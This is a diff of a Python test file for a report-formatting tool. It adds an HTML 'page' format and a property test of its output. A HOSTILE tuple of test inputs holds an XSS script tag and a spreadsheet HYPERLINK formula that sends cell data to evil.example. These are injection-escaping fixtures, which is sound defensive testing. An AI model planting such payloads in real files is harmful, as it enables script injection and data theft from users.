@@ -20,7 +20,7 @@ from commonscheck.cli import cli
 from commonscheck.cli.reporting import FORMATS as CHOICES
 from commonscheck.cli.reporting import KINDS
 from commonscheck.cli.reporting import STEPS as CHOSEN_STEPS
-from commonscheck.formats.overview import FORMATS, Format, badge, markdown, render, sheets, text, whole_json
+from commonscheck.formats.overview import FORMATS, Format, badge, markdown, page, render, sheets, text, whole_json
 from commonscheck.formats.overview.mermaid import MOST_LINKS, drawing
 from commonscheck.formats.overview.table import Table, to_the_right
 from commonscheck.formats.overview.tables import tables
@@ -42,7 +42,7 @@ ENDINGS = {"text": "txt", "markdown": "md", "csv": "csv"}
 T = TypeVar("T")
 
 # mypy holds each module against the protocol here, since the table imports them by name.
-MODULES: list[Format] = [badge, markdown, sheets, text, whole_json]
+MODULES: list[Format] = [badge, markdown, page, sheets, text, whole_json]
 HOSTILE = (
     "<script>alert(1)</script>",
     '=HYPERLINK("https://evil.example?"&A1)',
@@ -111,6 +111,13 @@ def test_every_format_is_strict_and_visible_for_any_names(names: list[str]) -> N
     overview = renamed(lambda _: next(left))
     for name in CHECKS.keys() - {"html"}:
         hold(name, overview)
+
+
+@settings(max_examples=3, deadline=None)
+@given(st.lists(TEXT, min_size=1, max_size=9))
+def test_a_page_is_strict_and_visible_for_any_names(names: list[str]) -> None:
+    left = iter(names * 400)
+    hold("html", renamed(lambda _: next(left)))
 
 
 def hold(name: str, overview: Overview) -> None:
